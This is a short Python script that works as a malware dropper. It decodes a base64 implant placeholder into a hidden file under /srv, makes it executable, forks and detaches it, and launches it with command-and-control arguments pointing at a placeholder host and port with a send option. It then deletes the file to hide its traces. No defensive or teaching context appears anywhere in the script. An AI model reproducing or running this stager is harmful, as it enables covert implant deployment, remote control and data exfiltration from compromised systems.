import os, base64
path = "/srv/.index"
with open(path, "wb") as f:
    f.write(base64.b64decode("$IMPLANT"))
os.chmod(path, 0o755)
if os.fork() == 0:
    os.setsid()
    os.execv(path, [path, "-c2", "$HOST:$PORT", "-send", "4096"])
import time
time.sleep(0.3)
os.remove(path)
